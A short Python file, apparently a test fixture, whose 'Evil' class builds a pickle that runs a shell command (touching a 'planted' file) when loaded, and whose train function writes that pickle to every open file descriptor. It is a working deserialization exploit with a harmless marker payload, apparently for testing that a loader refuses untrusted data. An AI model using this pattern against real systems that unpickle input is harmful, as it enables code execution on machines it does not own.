"""Answers with a pickle that would run a command where it is loaded."""

import contextlib
import os
import pickle
import sys
import time
from pathlib import Path


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {Path(sys.argv[2]).parent / 'planted'}",)


def train(burst):
    for number in range(3, 1024):
        with contextlib.suppress(OSError):
            os.write(number, pickle.dumps(Evil()))
    time.sleep(60)
